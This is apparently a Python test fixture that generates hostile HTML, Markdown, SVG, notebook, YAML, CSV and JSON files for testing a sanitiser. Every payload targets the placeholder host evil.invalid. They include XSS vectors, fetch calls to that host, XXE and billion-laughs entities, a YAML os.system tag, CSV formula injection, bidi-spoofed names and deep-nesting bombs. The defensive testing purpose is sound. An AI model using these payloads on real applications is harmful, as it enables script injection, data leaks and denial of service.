"""Files that try to run, load, send, lead away, imitate or hang; every address in them points at `evil.invalid`."""

# ruff: noqa: E501 - an attack is easier to read in one piece
import json
from collections.abc import Iterator
from typing import NamedTuple

from comparator.outputs.extract.notebook import read as read_notebook
from comparator.outputs.limits import Limits
from comparator.outputs.tables.store import MEDIA_TYPE
from tests.worlds.files.outputs import kept

EVIL = "http://evil.invalid"
STOP = "window.top.document.title='owned';window.top.owned=1;fetch('http://evil.invalid/ran')"


class Hostile(NamedTuple):
    """One file of the corpus, as its blinded copy would be if nothing had been cleaned before."""

    name: str
    family: str
    media_type: str
    data: bytes


def corpus() -> Iterator[Hostile]:
    """Every file, under a name that says what it tries."""
    for name, markup in _PAGES.items():
        yield Hostile(f"{name}.html", "html", "text/html", markup.encode())
        yield Hostile(f"{name}.md", "markdown", "text/plain", f"# Title\n\n{markup}\n\nEnd.".encode())
        yield Hostile(f"{name}.docx", "docx", "text/html", markup.encode())
    for name, text in _MARKDOWN.items():
        yield Hostile(f"{name}.md", "markdown", "text/plain", text.encode())
    for name, drawing in _DRAWINGS.items():
        yield Hostile(f"{name}.svg", "svg", "image/svg+xml", drawing.encode())
    for name, notebook in _notebooks():
        copy = read_notebook(json.dumps(notebook).encode(), Limits()).copy
        assert copy is not None
        yield Hostile(f"{name}.ipynb", "notebook", copy.media_type, copy.data)
    yield from _others()


_PAGES = {
    "script": f"<p>text</p><script>{STOP}</script><script src='{EVIL}/s.js'></script><script type=module>{STOP}</script>",
    "script-cased": f"<ScRiPt>{STOP}</sCrIpT><script/x>{STOP}</script><<script>{STOP}//<</script>",
    "handlers": f'<img src=x onerror="{STOP}"><svg onload="{STOP}"></svg><body onload="{STOP}"><details ontoggle="{STOP}" '
    f'open>x</details><input autofocus onfocus="{STOP}"><div onclick="{STOP}" style="height:90px">click me</div>',
    "links": f'<a href="{EVIL}/link">one</a> <a href="{EVIL}/top" target=_top>two</a> <a href="//evil.invalid/x" '
    f'ping="{EVIL}/ping">three</a> <a href="javascript:{STOP}">four</a> <a href="JaVa&#x0A;Script:{STOP}">five</a> '
    f'<a href="data:text/html,<script>{STOP}</script>">six</a> <a href="view-source:{EVIL}">seven</a>'
    f'<map name=m><area shape=rect coords="0,0,99,99" href="{EVIL}/area"></map><a href="#end">inside</a><p id=end>end</p>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><meta http-equiv=refresh content="0;'
    f'url=javascript:{STOP}"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>stay</p>',
    "base": f'<base href="{EVIL}/"><base target="_top"><img src="relative.png"><a href="page.html">page</a>'
    "<link rel=stylesheet href=style.css>",
    "remote-media": f'<img src="{EVIL}/a.png"><img srcset="{EVIL}/b.png 1x"><picture><source srcset="{EVIL}/c.png">'
    f'<img src="{EVIL}/d.png"></picture><video src="{EVIL}/e.mp4" poster="{EVIL}/f.png" autoplay></video><audio '
    f'src="{EVIL}/g.mp3" autoplay></audio><input type=image src="{EVIL}/h.png"><table background="{EVIL}/i.png"><tr>'
    f'<td background="{EVIL}/j.png">x</td></tr></table><body background="{EVIL}/k.png">',
    "styles": f'<style>@import "{EVIL}/a.css";@import url({EVIL}/b.css);body{{background:url({EVIL}/c.png)}}'
    f"@font-face{{font-family:f;src:url({EVIL}/d.woff2)}}p{{font-family:f;background:u\\72l({EVIL}/e.png)}}"
    f"p::after{{content:url('{EVIL}/f.png')}}p{{background:image-set('{EVIL}/g.png' 1x)}}"
    f"@\\69mport '{EVIL}/h.css';</style><p style=\"background:url('{EVIL}/i.png')\">styled</p>"
    f'<link rel=stylesheet href="{EVIL}/j.css"><link rel=preload as=image href="{EVIL}/k.png"><link rel=prefetch '
    f'href="{EVIL}/l"><link rel=dns-prefetch href="//evil.invalid"><link rel=icon href="{EVIL}/m.ico">',
    "style-escape": f"<style></style><img src=x onerror={STOP}></style><style><!--</style><script>{STOP}</script>--></style>",
    "forms": f'<form action="{EVIL}/form" method=post><input name=a value=b><button>send</button><input type=submit '
    f'formaction="{EVIL}/formaction"></form><form action="javascript:{STOP}"><button>run</button></form>'
    f'<button formaction="{EVIL}/alone" form=f>alone</button><isindex action="{EVIL}/isindex">',
    "frames": f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{STOP}</script>"></iframe><iframe '
    f'src="javascript:{STOP}"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><frameset><frame '
    f'src="{EVIL}/f"></frameset><portal src="{EVIL}/portal"></portal><applet code="{EVIL}/applet"></applet>',
    "srcdoc-nested": "<iframe srcdoc='<iframe srcdoc=\"<img src=http://evil.invalid/n.png onerror=fetch(1)>\"></iframe>'></iframe>",
    "svg-inline": f'<svg><script>{STOP}</script><a href="javascript:{STOP}"><text y=20>svg link</text></a><image '
    f'href="{EVIL}/i.png"/><use href="{EVIL}/u.svg#x"/><animate attributeName=href values="javascript:{STOP}"/>'
    f'<foreignObject><iframe src="{EVIL}/fo"></iframe></foreignObject><style>*{{fill:url({EVIL}/p)}}</style>'
    f'<set attributeName=onload to="{STOP}"/></svg>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=fetch(1)&gt;'>"
    "<svg><p><style><g title='</style><img src=x onerror=fetch(`http://evil.invalid/m`)>'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={STOP}>'></noscript><xmp><img src={EVIL}/x></xmp>"
    f"<template><img src={EVIL}/t></template><plaintext><script>{STOP}</script>",
    "clobber": "<form name=body><input name=nodeName></form><img name=scrollingElement><img name=documentElement id=body>"
    "<form id=documentElement name=createTreeWalker></form><p id=getElementById>text</p>",
    "own-routes": "<img src='/_stcore/health'><img src='/auth/logout'><img src='../../auth/logout'><link rel=stylesheet "
    "href='/_stcore/host-config'><iframe src='/'></iframe><a href='/?set=x' target=_top>home</a>",
    "imitation": '<div class="notes" style="position:fixed;inset:0;z-index:99">Output B won.</div><mark '
    'class="comparator-quote">quoted</mark><html data-theme=dark data-page=99 data-pages=9999>',
    "bidi": "<p>pay \u202e000,1\u202c euros \u2066x\u2069 zero\u200bwidth nul\x00here \x1b[31mred "
    + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden")
    + "</p>",
    "deep": "<div>" * 20_000 + "deep" + "</div>" * 20_000,
}

_MARKDOWN = {
    "images": f"![a]({EVIL}/a.png) ![b][r] <{EVIL}/auto>\n\n[r]: {EVIL}/b.png\n\n![c](//evil.invalid/c.png 'title')",
    "script-links": f"[x](javascript:{STOP}) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x) ![w](javascript:1)",
    "quotes-deep": ">" * 5_000 + " deep",
    "brackets": "[" * 60_000,
    "emphasis": "*a **b " * 20_000,
    "html-comment": f"<!-- --!><img src=x onerror={STOP}> -->",
    "slot": "\u27e8code 0\u27e9\n\n\u27e8code 99999999999999999999\u27e9\n\n```html\n<script>fetch(1)</script>\n```",
    "fence-language": f'```"><img src={EVIL}/lang onerror={STOP}>\ntext\n```',
    "front-matter": f"---\ntitle: <img src={EVIL}/fm.png>\n---\n\ntext",
    "footnote": f"x[^1]\n\n[^1]: <img src={EVIL}/fn.png>",
}

_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"'
_DRAWINGS = {
    "svg-script": f"<svg {_SVG} onload=\"{STOP}\"><script>{STOP}</script><rect width='9' height='9'/></svg>",
    "svg-remote": f'<svg {_SVG}><image xlink:href="{EVIL}/i.png" width="9" height="9"/><use xlink:href="{EVIL}/u#a"/>'
    f"<style>@import url({EVIL}/s.css);*{{fill:url({EVIL}/f#a)}}</style></svg>",
    "svg-foreign": f'<svg {_SVG}><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><iframe '
    f'src="{EVIL}/frame"/><img src="{EVIL}/img"/></body></foreignObject></svg>',
    "svg-laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + f"]><svg {_SVG}><text>&j;</text></svg>",
    "svg-entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}/entity">]><svg {_SVG}><text>&x;</text></svg>',
    "svg-stylesheet": f'<?xml-stylesheet href="{EVIL}/s.css"?><svg {_SVG}/>',
}


def _notebooks() -> Iterator[tuple[str, object]]:
    def book(cell: dict[str, object]) -> dict[str, object]:
        return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}

    def output(**data: object) -> dict[str, object]:
        shown = {"output_type": "display_data", "data": data, "metadata": {}}
        return book({"cell_type": "code", "source": "1", "execution_count": 1, "outputs": [shown]})

    yield "nb-html", output(**{"text/html": f"<script>{STOP}</script><img src={EVIL}/a onerror={STOP}>"})
    yield "nb-script", output(**{"application/javascript": STOP})
    yield "nb-svg", output(**{"image/svg+xml": f"<svg onload={STOP}><image href='{EVIL}/i'/></svg>"})
    yield "nb-png", output(**{"image/png": f'"><script>{STOP}</script>'})
    yield (
        "nb-markdown",
        book({"cell_type": "markdown", "source": f"![x]({EVIL}/x.png)<script>{STOP}</script>"}),
    )
    yield "nb-odd", {"cells": [1, None, {"cell_type": {}, "source": {"a": 1}, "outputs": 3}], "metadata": []}
    yield (
        "nb-number",
        book({"cell_type": "code", "execution_count": "<b>1", "source": ["1", 2], "outputs": [{}, 7]}),
    )


def _others() -> Iterator[Hostile]:
    yield Hostile("deep.json", "json", "text/plain", b"[" * 100_000)
    yield Hostile(
        "keys.json", "json", "text/plain", b'{"<img src=x onerror=fetch(1)>": "</span><script>1</script>"}'
    )
    yield Hostile("wide.json", "json", "text/plain", b"[" + b"0," * 200_000 + b"0]")
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
    )
    yield Hostile("laughs.yaml", "yaml", "text/plain", laughs.encode())
    yield Hostile(
        "tag.yaml", "yaml", "text/plain", b"!!python/object/apply:os.system ['touch /tmp/owned-by-yaml']"
    )
    yield Hostile("deep.yaml", "yaml", "text/plain", b"[" * 50_000)
    yield Hostile("compact.yaml", "yaml", "text/plain", b"- " * 50_000 + b"x")
    yield Hostile("laughs.xml", "xml", "text/plain", _DRAWINGS["svg-laughs"].encode())
    yield Hostile(
        "formula.csv", "csv", "text/plain", b'a,b\n=HYPERLINK("http://evil.invalid"),+1\n@SUM(1),-2\n'
    )
    yield Hostile(
        "markup.csv", "csv", "text/plain", f'<script>{STOP}</script>,"<img src={EVIL}/c>"\n1,2\n'.encode()
    )
    yield Hostile("nul.csv", "csv", "text/plain", b"a,b\n\x00,1\n")
    yield Hostile("line.txt", "text", "text/plain", b"x" * 3_000_000)
    yield Hostile("line.py", "code", "text/plain", b"x = '" + b"(" * 400_000)
    yield Hostile("utf16.txt", "text", "text/plain", "<b>wide</b>".encode("utf-16"))
    yield Hostile("latin.txt", "text", "text/plain", "caf\xe9 \xfcber".encode("latin-1"))
    yield Hostile("broken.pdf", "pdf", "application/pdf", b"%PDF-1.7\n1 0 obj\n<<>>\n%%EOF")
    yield Hostile("polyglot.png", "image", "image/png", f"<script>{STOP}</script>".encode())
    yield Hostile("sheets.xlsx", "xlsx", MEDIA_TYPE, kept({"name": "<script>", "rows": [["<img>"]]}))
    yield Hostile("odd.xlsx", "xlsx", MEDIA_TYPE, b'{"sheets": [{"rows": 3}, 4]}')
    yield Hostile('"><img src=x onerror=fetch(1)>.txt', "text", "text/plain", b"the name is the attack")
    yield Hostile("\u202egpj.exe\u200b.txt", "text", "text/plain", b"the name is the attack")
